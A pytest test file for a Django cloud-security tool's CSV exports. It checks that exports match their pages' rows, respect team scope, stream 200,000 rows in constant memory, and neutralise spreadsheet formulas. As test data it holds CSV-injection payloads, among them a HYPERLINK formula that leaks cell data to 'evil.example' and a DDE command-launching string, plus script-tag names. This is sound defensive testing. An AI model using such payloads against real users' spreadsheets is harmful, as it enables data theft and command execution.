"""CSV exports: the rows of their page, scoped like it, safe in a spreadsheet."""

import csv
import io
import json
import time
import tracemalloc
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.db import connection
from django.http import QueryDict
from django.urls import reverse

from collectors.models import Resource, ScanUnit
from findings.controls import REGISTRY
from findings.exports import (
    FINDING_COLUMNS,
    FINDING_LIST_COLUMNS,
    FORMULA_PREFIXES,
    file_name,
    finding_rows,
    neutralise,
)
from findings.exports_history import HISTORY_COLUMNS, UNIT_COLUMNS
from findings.exports_rollups import (
    ACCOUNT_COLUMNS,
    CONTROL_COLUMNS,
    SECTION_COLUMNS,
    rate_cell,
)
from findings.models import Finding
from findings.tests.factories import (
    CTL_MFA,
    CTL_S3,
    HOSTILE,
    SEC_S3,
    T0,
    build_world,
    make_account,
    make_finding,
    make_org,
    make_resource,
    make_scan,
    make_snapshot,
    make_team,
    make_unit,
    make_user,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def world():
    w = build_world()
    # An erroring finding and a deleted resource's finding (never listed).
    error = make_resource(w.payments, name="audit-logs")
    make_finding(error, CTL_S3, "ERROR", reason="GetPublicAccessBlock denied")
    gone = make_resource(w.payments, name="gone-bucket")
    make_finding(gone, CTL_S3, "FAIL")
    Resource.objects.filter(pk=gone.pk).update(deleted_at=w.new.started_at)
    return w


def fetch(client, name, *args, query=""):
    """The export's response and its rows, parsed as a spreadsheet would."""
    response = client.get(reverse(name, args=args) + query)
    assert response.status_code == 200, response.status_code
    assert response.streaming
    body = b"".join(response.streaming_content).decode("utf-8")
    return response, list(csv.reader(io.StringIO(body, newline="")))


def page_context(client, name, *args, query=""):
    response = client.get(reverse(name, args=args) + query)
    assert response.status_code == 200
    return response.context


def every_page(client, name, *args, query=""):
    """The rows of a findings list, page after page (its ``?page=`` aside)."""
    params = QueryDict(query.lstrip("?"), mutable=True)
    params.pop("page", None)
    listed, number = [], 1
    while True:
        params["page"] = str(number)
        context = page_context(client, name, *args, query=f"?{params.urlencode()}")
        listed += list(context["page"])
        if not context["page"].has_next:
            return listed
        number += 1


def finding_key(f: Finding) -> tuple:
    return (f.account.account_id, f.control_id, f.resource.resource_id, f.status)


def export_key(row: list[str]) -> tuple:
    return (row[0], row[5], row[3], row[8])


# -- Same filters, same rows ------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    ["", "?status=FAIL", "?status=ERROR", "?q=lake", "?status=bogus&q=a", "?page=2"],
)
def test_control_findings_export_has_the_pages_rows(client, world, query):
    client.force_login(world.root)
    listed = every_page(client, "findings:control", CTL_S3, query=query)
    response, rows = fetch(client, "findings:control_findings_csv", CTL_S3, query=query)
    assert rows[0] == FINDING_LIST_COLUMNS
    # Every page of the list, in the page's order.
    assert [export_key(r) for r in rows[1:]] == [finding_key(f) for f in listed]
    assert len(rows) > 1


def test_control_findings_export_with_the_account_filter(client, world):
    client.force_login(world.root)
    query = f"?account={world.data.pk}"
    listed = [
        finding_key(f)
        for f in every_page(client, "findings:control", CTL_S3, query=query)
    ]
    response, rows = fetch(client, "findings:control_findings_csv", CTL_S3, query=query)
    assert [export_key(r) for r in rows[1:]] == listed
    assert {r[0] for r in rows[1:]} == {world.data.account_id}
    assert (
        "parapet-acme-s3.bucket.public-access-blocked-findings-"
        in (response["Content-Disposition"])
    )


@pytest.mark.parametrize("query", ["", "?status=FAIL", "?q=script", "?q=nothing"])
def test_account_findings_export_has_the_pages_rows(client, world, query):
    client.force_login(world.alice)
    pk = world.payments.pk
    listed = [
        finding_key(f) for f in every_page(client, "findings:account", pk, query=query)
    ]
    _, rows = fetch(client, "findings:account_findings_csv", pk, query=query)
    assert [export_key(r) for r in rows[1:]] == listed
    assert all(r[0] == world.payments.account_id for r in rows[1:])
    assert "gone-bucket" not in {r[3] for r in rows[1:]}


def test_findings_export_columns(client, world):
    client.force_login(world.alice)
    _, rows = fetch(client, "findings:account_findings_csv", world.payments.pk)
    row = dict(zip(rows[0], rows[1], strict=True))
    control = REGISTRY[CTL_S3]
    assert row["resource_id"] == HOSTILE and row["resource_name"] == HOSTILE
    assert row["resource_arn"] == f"arn:aws:s3:::{HOSTILE}"
    assert (
        row["status"] == "FAIL"
        and row["reason"] == f"BlockPublicAcls is off on {HOSTILE}"
    )
    assert row["section"] == control.section and row["control_title"] == control.title
    assert row["severity"] == control.severity.value
    assert row["account_name"] == "payments-prod"
    assert row["resource_tags"] == '{"team": "<script>alert(1)</script>"}'
    assert row["first_seen"] == "2025-03-02T06:00:00Z"
    assert row["last_changed"] == "2025-03-02T06:00:00Z"


def test_units_export_has_the_pages_rows(client, world):
    client.force_login(world.root)
    for query in ["", "?status=failed", "?service=s3", "?service=nope", "?page=3"]:
        context = page_context(client, "collectors:scan", world.new.pk, query=query)
        _, rows = fetch(client, "findings:scan_units_csv", world.new.pk, query=query)
        assert rows[0] == UNIT_COLUMNS
        listed = [
            (u.account.account_id, u.region, u.service, u.status)
            for u in context["page"].paginator.object_list
        ]
        assert [(r[2], r[4], r[5], r[6]) for r in rows[1:]] == listed, query
    _, rows = fetch(
        client, "findings:scan_units_csv", world.new.pk, query="?status=failed"
    )
    failed = dict(zip(rows[0], rows[1], strict=True))
    assert failed["error_kind"] == "access_denied"
    assert failed["error_message"] == "ec2:DescribeInstances denied by an SCP"
    assert failed["duration_seconds"] == "12.0"
    assert failed["organization"] == "Acme"


def test_section_controls_export_has_the_pages_rows(client, world):
    client.force_login(world.alice)
    context = page_context(client, "findings:section", SEC_S3)
    _, rows = fetch(client, "findings:section_controls_csv", SEC_S3)
    assert rows[0] == CONTROL_COLUMNS
    assert [r[0] for r in rows[1:]] == [row.control_id for row in context["rows"]]
    by_id = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    bucket = by_id[CTL_S3]
    # alice sees payments only: 2 passing, 1 failing in the latest scan.
    assert bucket["pass_rate"] == "0.6667"
    assert (bucket["passed"], bucket["failed"], bucket["results"]) == (
        "2",
        "1",
        "evaluated",
    )
    others = [r for cid, r in by_id.items() if cid != CTL_S3]
    assert all(r["results"] != "evaluated" and r["pass_rate"] == "" for r in others)


def test_all_controls_export(client, world):
    client.force_login(world.root)
    _, rows = fetch(client, "findings:controls_csv")
    assert len(rows) - 1 == len(REGISTRY)
    by_id = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    # Staff: payments 2/3 and data 1/4 → 3/7.
    assert by_id[CTL_S3]["pass_rate"] == "0.4286"
    assert by_id[CTL_MFA]["pass_rate"] == "1.0000"
    # Controls of services no scan covered are out of scope, not passing.
    out = [r for r in by_id.values() if r["results"] == "out_of_scope"]
    assert out and all(r["pass_rate"] == "" for r in out)
    # ?org= narrows to one organization; another team's is a 404.
    _, rows = fetch(client, "findings:controls_csv", query=f"?org={world.org.pk}")
    assert len(rows) - 1 == len(REGISTRY)
    client.force_login(world.alice)
    other = make_org("Other")
    make_account(other, "elsewhere")
    response = client.get(reverse("findings:controls_csv") + f"?org={other.pk}")
    assert response.status_code == 404


def test_accounts_export_has_the_overviews_rows(client, world):
    world.payments.tags = {"owner": "=HYPERLINK(1)"}
    world.payments.save()
    client.force_login(world.root)
    summary = page_context(client, "findings:overview")["summary"]
    response, rows = fetch(client, "findings:accounts_csv")
    assert rows[0] == ACCOUNT_COLUMNS
    assert [r[1] for r in rows[1:]] == [a.account.account_id for a in summary.accounts]
    assert [r[7] for r in rows[1:]] == [rate_cell(a.rate) for a in summary.accounts]
    worst = dict(zip(rows[0], rows[1], strict=True))
    assert worst["account_name"] == "data-lake" and worst["pass_rate"] == "0.2500"
    best = dict(zip(rows[0], rows[2], strict=True))
    assert best["account_tags"] == '{"owner": "=HYPERLINK(1)"}'
    assert best["scan_id"] == str(world.new.pk)
    assert best["scan_started_at"] == "2025-03-02T06:00:00Z"
    assert 'filename="parapet-acme-accounts-' in response["Content-Disposition"]


def test_sections_export_has_the_overviews_rows(client, world):
    client.force_login(world.alice)
    summary = page_context(client, "findings:overview")["summary"]
    _, rows = fetch(client, "findings:sections_csv", query=f"?org={world.org.pk}")
    assert rows[0] == SECTION_COLUMNS
    by_slug = {r[1]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    shown = [s.slug for s in summary.sections if s.shown]
    assert set(shown) <= set(by_slug)
    # Listed in the whitepaper's order, like the overview.
    order = [r[1] for r in rows[1:]]
    assert [s for s in order if s in shown] == shown
    s3 = by_slug[SEC_S3]
    assert (s3["counts_cover"], s3["pass_rate"], s3["failed"]) == (
        "section",
        "0.6667",
        "1",
    )
    storage = by_slug["service/storage"]
    assert storage["counts_cover"] == "section and sub-sections"
    aws_side = by_slug["shared-responsibility"]
    assert aws_side["kind"] == "informational" and aws_side["pass_rate"] == ""


def test_resource_history_export(client, world):
    client.force_login(world.alice)
    response, rows = fetch(client, "findings:resource_history_csv", world.bucket.pk)
    assert rows[0] == HISTORY_COLUMNS
    events = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert [(e["event"], e["at"]) for e in events] == [
        ("status_change", "2025-03-02T06:00:00Z"),
        ("snapshot", "2025-03-02T06:00:00Z"),
        ("status_change", "2025-03-01T06:00:00Z"),
        ("snapshot", "2025-03-01T06:00:00Z"),
    ]
    flip, second, first_change, first = events
    assert (flip["old_status"], flip["new_status"]) == ("PASS", "FAIL")
    assert flip["snapshot_sha256"] == world.second.sha256
    assert flip["control_title"] == REGISTRY[CTL_S3].title
    assert second["snapshot_sha256"] == world.second.sha256
    assert second["config_changes"] == (
        f'added config.Owner: "{HOSTILE}"; '
        "changed config.PublicAccessBlock.BlockPublicAcls: true → false; "
        f'added tags.team: "{HOSTILE}"'
    )
    assert second["valid_to"] == "" and first["valid_to"] == "2025-03-02T06:00:00Z"
    assert first["config_changes"] == "first collected"
    assert first_change["old_status"] == "" and first_change["new_status"] == "PASS"
    assert all(e["resource_id"] == HOSTILE for e in events)
    assert (
        "parapet-acme-script-alert-1-script-history-" in response["Content-Disposition"]
    )


def test_history_cells_fit_a_spreadsheet_cell(client, world):
    resource = make_resource(world.payments, name="huge-policy")
    make_snapshot(resource, {f"Statement{i}": "x" * 400 for i in range(1500)})
    later = T0 + timedelta(days=1)
    make_snapshot(resource, {f"Statement{i}": "y" * 400 for i in range(1500)}, at=later)
    client.force_login(world.alice)
    _, rows = fetch(client, "findings:resource_history_csv", resource.pk)
    changes = rows[1][HISTORY_COLUMNS.index("config_changes")]
    assert len(changes) < 32_767  # Excel's limit for one cell
    assert changes.startswith('changed config.Statement0: "xxx')
    assert changes.endswith(" more")


def test_scans_and_framework_exports(client, world):
    client.force_login(world.alice)
    _, rows = fetch(client, "findings:scans_csv")
    scans = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert [s["scan_id"] for s in scans] == [str(world.new.pk), str(world.old.pk)]
    # Unit counts over alice's accounts only (bob's failed unit is not hers).
    assert (scans[0]["units_total"], scans[0]["units_failed"]) == ("2", "0")
    assert scans[0]["duration_seconds"] == "240.0"
    _, rows = fetch(client, "findings:framework_csv", "fsbp")
    assert rows[0][:3] == ["framework", "version", "requirement"]
    s3_rows = [r for r in rows[1:] if r[5] == CTL_S3]
    assert s3_rows and all(r[8] == "0.6667" for r in s3_rows)
    assert (
        client.get(reverse("findings:framework_csv", args=["nope"])).status_code == 404
    )


# -- The pages link to their export with their query string ------------------------


def test_export_links_carry_the_query_string(client, world):
    client.force_login(world.root)
    html = client.get(
        reverse("findings:control", args=[CTL_S3]) + "?status=FAIL&q=lake"
    ).content.decode()
    url = reverse("findings:control_findings_csv", args=[CTL_S3])
    assert f'href="{url}?status=FAIL&amp;q=lake"' in html
    # The htmx partial carries it too, so the link follows the filters.
    html = client.get(
        reverse("findings:account", args=[world.payments.pk]) + "?status=ERROR",
        headers={"HX-Request": "true", "HX-Target": "findings"},
    ).content.decode()
    url = reverse("findings:account_findings_csv", args=[world.payments.pk])
    assert f'href="{url}?status=ERROR"' in html
    html = client.get(
        reverse("collectors:scan", args=[world.new.pk]) + "?status=failed&page=1"
    ).content.decode()
    url = reverse("findings:scan_units_csv", args=[world.new.pk])
    assert f'href="{url}?status=failed"' in html
    html = client.get(reverse("findings:overview")).content.decode()
    for name in [
        "findings:accounts_csv",
        "findings:sections_csv",
        "findings:controls_csv",
    ]:
        assert f'href="{reverse(name)}?org={world.org.pk}"' in html
    for name, args in [
        ("findings:section", [SEC_S3]),
        ("findings:resource", [world.bucket.pk]),
        ("findings:framework", ["fsbp"]),
        ("collectors:scans", []),
    ]:
        html = client.get(reverse(name, args=args)).content.decode()
        assert "Export" in html and ".csv" in html, name


# -- Scope -------------------------------------------------------------------------


def test_exports_of_another_teams_objects_are_404(client, world):
    other = make_org("Other")
    make_account(other, "elsewhere")
    foreign_scan = make_scan(other)
    client.force_login(world.bob)
    for name, args in [
        ("findings:account_findings_csv", [world.payments.pk]),
        ("findings:resource_history_csv", [world.bucket.pk]),
        ("findings:resource_history_csv", [world.root_account.pk]),
        ("findings:scan_units_csv", [foreign_scan.pk]),
        ("findings:control_findings_csv", ["no.such.control"]),
        ("findings:section_controls_csv", ["no/such/section"]),
    ]:
        response = client.get(reverse(name, args=args))
        assert response.status_code == 404, (name, args)
        assert not response.streaming
    for name in ["findings:accounts_csv", "findings:sections_csv"]:
        response = client.get(reverse(name) + f"?org={other.pk}")
        assert response.status_code == 404, name


def test_exports_show_only_the_users_accounts(client, world):
    client.force_login(world.alice)
    _, rows = fetch(client, "findings:control_findings_csv", CTL_S3)
    assert {r[0] for r in rows[1:]} == {world.payments.account_id}
    # Another team's account as a filter is ignored, like on the page.
    query = f"?account={world.data.pk}"
    _, filtered = fetch(client, "findings:control_findings_csv", CTL_S3, query=query)
    assert filtered == rows
    _, rows = fetch(client, "findings:scan_units_csv", world.new.pk)
    assert {r[2] for r in rows[1:]} == {world.payments.account_id}
    _, rows = fetch(client, "findings:accounts_csv")
    assert [r[1] for r in rows[1:]] == [world.payments.account_id]


def test_anonymous_is_sent_to_login(client, world):
    response = client.get(
        reverse("findings:account_findings_csv", args=[world.payments.pk])
    )
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_a_user_without_accounts_gets_an_empty_export(client, world):
    client.force_login(make_user("nobody"))
    for name in [
        "findings:accounts_csv",
        "findings:sections_csv",
        "findings:scans_csv",
    ]:
        _, rows = fetch(client, name)
        assert len(rows) == 1, name


# -- Formula neutralisation and round trips ----------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def test_hostile_names_and_tags_are_neutralised(client, db):
    org = make_org("=Evil Org")
    account = make_account(org, "=cmd|' /C calc'!A0", tags={"=owner": "=1+2"})
    user = make_user("eve")
    make_team("Evil", members=[user], accounts=[account])
    scan = make_scan(org)
    make_unit(
        scan,
        account,
        status=ScanUnit.Status.FAILED,
        error_kind="other",
        error_message="@attacker said =2+2",
    )
    for i, formula in enumerate(FORMULAS):
        resource = make_resource(account, name=formula)
        make_snapshot(resource, {"Name": formula}, scan=scan, tags={"team": formula})
        make_finding(resource, CTL_S3, "FAIL", reason=f"{formula} #{i}")
    client.force_login(user)

    _, rows = fetch(client, "findings:account_findings_csv", account.pk)
    assert len(rows) == 1 + len(FORMULAS)
    for row in [*rows[1:]]:
        cells = dict(zip(rows[0], row, strict=True))
        original = cells["resource_id"][1:]
        assert original in FORMULAS
        assert cells["resource_id"] == "'" + original
        assert cells["resource_name"] == "'" + original
        assert cells["reason"].startswith("'" + original)
        assert cells["account_name"] == "'=cmd|' /C calc'!A0"
        # Tags are JSON, which starts with a brace: inert, and parseable.
        assert cells["resource_tags"].startswith('{"team": ')
    # No cell of any export starts a formula.
    exports = [
        ("findings:account_findings_csv", [account.pk]),
        ("findings:scan_units_csv", [scan.pk]),
        (
            "findings:resource_history_csv",
            [Resource.objects.filter(account=account)[0].pk],
        ),
        ("findings:scans_csv", []),
    ]
    for name, args in exports:
        _, rows = fetch(client, name, *args)
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_PREFIXES), (name, cell)
                assert not cell.lstrip(" \n").startswith(FORMULA_PREFIXES), (name, cell)
    _, rows = fetch(client, "findings:scan_units_csv", scan.pk)
    assert rows[1][UNIT_COLUMNS.index("error_message")] == "'@attacker said =2+2"
    assert rows[1][UNIT_COLUMNS.index("organization")] == "'=Evil Org"


def test_quotes_newlines_and_unicode_round_trip(client, world):
    tricky = 'a "quoted", multi\nline\r\nname; ünïcödé ✓'
    resource = make_resource(world.payments, name=tricky)
    make_snapshot(resource, {}, tags={"note": tricky})
    make_finding(resource, CTL_S3, "FAIL", reason=tricky)
    client.force_login(world.alice)
    response, rows = fetch(
        client, "findings:account_findings_csv", world.payments.pk, query="?q=quoted"
    )
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["resource_name"] == tricky and cells["reason"] == tricky
    assert json.loads(cells["resource_tags"]) == {"note": tricky}
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_neutralise_cells():
    assert neutralise(None) == ""
    assert neutralise(-1) == "-1" and neutralise(0.5) == "0.5"
    assert neutralise(T0) == "2025-03-01T06:00:00Z"
    assert neutralise("plain") == "plain"
    for formula in FORMULAS:
        assert neutralise(formula) == "'" + formula
    assert rate_cell(0.99996) == "0.9999" and rate_cell(0.00001) == "0.0001"
    assert rate_cell(None) == "" and rate_cell(1.0) == "1.0000"
    assert file_name("Zürich / Prod", "iam.root.mfa-enabled-findings", T0.date()) == (
        "parapet-zurich-prod-iam.root.mfa-enabled-findings-2025-03-01.csv"
    )


def test_timestamps_formatted_by_postgres_read_as_pythons(world):
    at = T0 + timedelta(microseconds=123456)
    Finding.objects.filter(pk=world.failing.pk).update(first_seen=at)
    [row] = finding_rows(Finding.objects.filter(pk=world.failing.pk))
    assert row[10] == neutralise(at) == "2025-03-01T06:00:00.123456Z"
    assert row[11] == neutralise(world.failing.last_changed) == "2025-03-02T06:00:00Z"


# -- The response ------------------------------------------------------------------


def test_response_headers_bom_and_line_endings(client, world):
    client.force_login(world.alice)
    url = reverse("findings:account_findings_csv", args=[world.payments.pk])
    response = client.get(url)
    body = b"".join(response.streaming_content)
    assert not body.startswith(b"\xef\xbb\xbf")
    assert body.startswith(b"account_id,region,") and body.endswith(b"\r\n")
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="parapet-acme-payments-prod-')
    assert disposition.endswith('.csv"')
    assert "no-store" in response["Cache-Control"]
    response = client.get(url + "?bom=1&status=FAIL")
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbfaccount_id,")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert rows[0] == FINDING_LIST_COLUMNS and len(rows) == 2


def test_cli_keeps_its_columns_and_shares_the_cells(client, world):
    out = io.StringIO()
    call_command("export_findings", stdout=out)
    cli = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert cli[0] == FINDING_COLUMNS
    # Live findings of every account and status; the deleted bucket's is not.
    live = Finding.objects.filter(resource__deleted_at__isnull=True)
    assert sorted(export_key(r) for r in cli[1:]) == sorted(
        finding_key(f) for f in live
    )
    client.force_login(world.root)
    _, web = fetch(
        client, "findings:control_findings_csv", CTL_S3, query="?status=FAIL"
    )
    web_cells = {tuple(r[: len(FINDING_COLUMNS)]) for r in web[1:]}
    assert web_cells <= {tuple(r) for r in cli[1:]}


# -- Streaming: constant memory ----------------------------------------------------

BIG = 200_000


def _bulk_findings(account, n: int) -> None:
    """``n`` failing findings on ``n`` buckets, written by Postgres itself."""
    resources = Resource._meta.db_table
    findings = Finding._meta.db_table
    with connection.cursor() as cursor:
        cursor.execute(
            f"""
            INSERT INTO {resources} (account_id, service, unit_region, region,
                resource_type, resource_id, arn, name, first_seen)
            SELECT %s, 's3', 'us-east-1', 'us-east-1', 'AWS::S3::Bucket',
                'bulk-' || lpad(i::text, 7, '0'),
                'arn:aws:s3:::bulk-' || lpad(i::text, 7, '0'),
                CASE WHEN i %% 10 = 0 THEN '=HYPERLINK("x")' ELSE 'bucket ' || i END,
                %s
            FROM generate_series(1, %s) AS i
            """,
            [account.pk, T0, n],
        )
        cursor.execute(
            f"""
            INSERT INTO {findings} (account_id, resource_id, control_id, status,
                reason, first_seen, last_changed)
            SELECT account_id, id, %s, 'FAIL',
                'Block public access is off on ' || resource_id, %s, %s
            FROM {resources} WHERE account_id = %s AND resource_id LIKE 'bulk-%%'
            """,
            [CTL_S3, T0, T0 + timedelta(days=1), account.pk],
        )
        # Fresh statistics, as autovacuum keeps them in production; without
        # them the planner takes 200,000 rows for a handful.
        cursor.execute(f"ANALYZE {resources}, {findings}")


def test_a_200k_row_export_streams_in_constant_memory(client, db):
    org = make_org("Big")
    account = make_account(org, "big-account")
    user = make_user("auditor", staff=True)
    _bulk_findings(account, BIG)
    client.force_login(user)

    started = time.monotonic()
    response = client.get(reverse("findings:control_findings_csv", args=[CTL_S3]))
    tracemalloc.start()
    try:
        baseline = tracemalloc.get_traced_memory()[0]
        lines = size = chunks = 0
        for chunk in response.streaming_content:
            lines += chunk.count(b"\r\n")
            size += len(chunk)
            chunks += 1
        peak = tracemalloc.get_traced_memory()[1] - baseline
    finally:
        tracemalloc.stop()
    elapsed = time.monotonic() - started

    assert lines == BIG + 1
    assert chunks > 100  # streamed in pieces, not built whole
    # The CSV is tens of megabytes; the export never holds more than a few
    # chunks of rows.
    assert size > 40 * 1024 * 1024
    assert peak < 8 * 1024 * 1024, f"peak {peak / 2**20:.1f} MiB"
    assert elapsed < 60
